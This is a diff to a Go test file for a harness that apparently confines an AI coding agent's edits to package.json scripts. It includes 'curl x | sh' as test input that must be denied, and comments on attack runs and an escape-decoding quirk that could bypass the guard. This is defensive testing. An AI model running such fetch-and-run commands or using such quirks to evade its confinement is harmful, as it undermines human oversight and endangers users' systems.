@@ -301,7 +301,7 @@ func TestLaunchesNameTheConfiner(t *testing.T) {
 // scripts.lint) is decided as executable configuration, as the launcher
 // puts such an entry back after a confined call; Claude Code makes the
 // file tools' changes itself, unconfined. Controls: a dependency added,
-// the same script written again with an escape, and a package.json no
+// the same script written again spaced otherwise, and a package.json no
 // hook runs are ordinary.
 func TestJailFilesPackageEntries(t *testing.T) {
 	h, _ := jailHarness(t)
@@ -339,7 +339,7 @@ func TestJailFilesPackageEntries(t *testing.T) {
 	write("package.json", strings.Replace(pkg, `"dependencies": {}`, `"dependencies": {}, "z": "`+strings.Repeat("z", 1<<20)+`"`, 1))
 	expect(t, "Edit scripts.test of a package.json past 1 MiB", h.decide(edit(`"npm run lint"`, `"curl x | sh"`)), Deny, ReasonExecConfig)
 	write("package.json", pkg)
-	expect(t, "control: Edit scripts.lint written again with an escape", h.decide(edit(`"eslint ."`, `"eslint \u002e"`)), Allow, ReasonScopedGrant)
+	expect(t, "control: Edit scripts.lint written again, spaced otherwise", h.decide(edit(`"lint": "eslint ."`, `"lint":   "eslint ."`)), Allow, ReasonScopedGrant)
 	// An edit loopguard cannot apply exactly is not taken for one the
 	// client refuses (the seventy-eighth attack run): Claude Code
 	// decodes an escape in old_string when it matches nothing as it
